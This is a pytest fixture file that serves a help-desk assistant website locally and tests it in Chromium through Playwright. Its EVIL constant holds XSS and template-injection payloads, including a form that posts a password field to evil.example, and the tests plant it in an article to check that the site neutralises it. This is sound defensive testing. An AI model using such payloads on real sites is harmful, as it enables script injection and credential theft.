"""The site on loopback over a tiny handbook, and a real Chromium in front of it."""

import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Locator, Page, Request, expect, sync_playwright

from assistant import Assistant, AssistantSettings, Chat, open_assistant
from assistant.desk.domain import ChatRules
from knowledge import Actor, ArticleContent, ArticleDraft, KnowledgeBase, Origin
from tests.assistant.api.conftest import open_handbook
from ui.site import Access, build_site

# What is expected comes, on a busy machine after a while; only a failure takes so long.
expect.set_options(timeout=20_000)

QUICK = ChatRules(pause_seconds=0.1, poll_seconds=0.2, sessions_per_address_per_minute=1000)

EVIL = (
    "<img src=x onerror=\"window.burned='img'\">"
    "<form action='http://evil.example/'><input name=password></form>"
    "<a href=\"javascript:window.burned='link'\">链接</a>"
    "</script><script>window.burned='script'</script>"
    "${window.burned=`template`}${document.body.append(31*43)}{{constructor}}\\u0000\\"
)
"""What runs if it is taken for markup, for a link, or for one of the templates that Gradio's pages are made of."""

EVIL_ARTICLE = ArticleDraft("evil", ArticleContent(f"怎样清洗地毯? {EVIL}", f"地毯用清水清洗。{EVIL}", source=EVIL))


@dataclass
class Desk:
    """A served site: where it is, and what it rests on."""

    url: str
    assistant: Assistant
    chat: Chat


@pytest.fixture(scope="package")
def handbook(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KnowledgeBase]:
    """The tiny handbook with one article more, which means harm."""
    folder: Path = tmp_path_factory.mktemp("handbook")
    knowledge = open_handbook(folder)
    knowledge.store.save([EVIL_ARTICLE], Actor("trainer"), Origin.IMPORT, publish=True)
    knowledge.catch_up()
    yield knowledge
    knowledge.close()


@pytest.fixture(scope="package")
def desk(handbook: KnowledgeBase) -> Iterator[Desk]:
    """A site that answers what it knows."""
    with served(open_assistant(AssistantSettings(), handbook)) as desk:
        yield desk


@pytest.fixture(scope="package")
def hesitant_desk(handbook: KnowledgeBase) -> Iterator[Desk]:
    """A site that is sure of nothing, and so asks back."""
    with served(open_assistant(AssistantSettings(answer_level=1, clarify_level=0), handbook)) as desk:
        yield desk


@contextmanager
def served(assistant: Assistant, access: Access | None = None, rules: ChatRules = QUICK) -> Iterator[Desk]:
    """The whole site on a free port."""
    chat = Chat(assistant, rules)
    app = build_site(assistant, chat=chat, pages=True, access=access)
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, ws="none", log_config=None))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive(), "the server did not start"
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield Desk(f"http://127.0.0.1:{port}", assistant, chat)
    server.should_exit = True
    thread.join()


@pytest.fixture(scope="package")
def browser(chromium: str) -> Iterator[Browser]:
    """One Chromium for all tests of a run."""
    quiet = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=quiet)
        yield browser
        browser.close()


@dataclass
class Window:
    """A page as an agent has it open, and what it asked the network for."""

    page: Page
    requests: list[Request]

    def note(self, request: Request) -> None:
        """Remember a request."""
        self.requests.append(request)

    def part(self, name: str) -> Locator:
        """A part of the page by its name."""
        return self.page.locator(f'[data-part="{name}"]')

    def ask(self, text: str) -> None:
        """Try a question, and wait for the reply to it."""
        if self.page.locator(".desk").get_attribute("data-kind") != "trial":
            self.page.evaluate("document.querySelector('[data-part=to-trial]').click()")
        with self.page.expect_response("**/api/v1/drafts"):
            self.page.fill("#next-message", text)
            self.page.press("#next-message", "Enter")
        self.settle()

    def settle(self) -> None:
        """Wait until nothing is being drafted."""
        self.page.wait_for_function("() => ['draft', 'failed'].includes(document.querySelector('.desk').dataset.state)")


@pytest.fixture(scope="package")
def context_with(browser: Browser) -> Iterator[Callable[[dict[str, Any]], BrowserContext]]:
    """One context for each set of options, so that Gradio's scripts are fetched once and not for every test."""
    contexts: dict[str, BrowserContext] = {}
    usual = {"locale": "zh-CN", "viewport": {"width": 1440, "height": 900}, "color_scheme": "light"}

    def context_with(options: dict[str, Any]) -> BrowserContext:
        key = repr(sorted(options.items()))
        if key not in contexts:
            contexts[key] = browser.new_context(**(usual | options))
            contexts[key].grant_permissions(["clipboard-read", "clipboard-write"])
            contexts[key].set_default_timeout(30_000)
        return contexts[key]

    yield context_with
    for context in contexts.values():
        context.close()


@pytest.fixture
def opened(context_with: Callable[[dict[str, Any]], BrowserContext]) -> Iterator[Callable[..., Window]]:
    """Opens a site in a fresh window: `opened(desk, "#/place", **options of the browser's context)`."""
    windows: list[Window] = []

    def open_(desk: Desk, place: str = "", **options: Any) -> Window:
        window = Window(context_with(options).new_page(), [])
        windows.append(window)
        window.page.on("request", window.note)
        # The first visit waits until Gradio is imported.
        window.page.goto(f"{desk.url}/desk/{place}" if place else desk.url, timeout=90_000)
        window.page.wait_for_selector(".desk.ready", timeout=60_000)
        return window

    yield open_
    for window in windows:
        window.page.evaluate("localStorage.clear()")
        window.page.close()
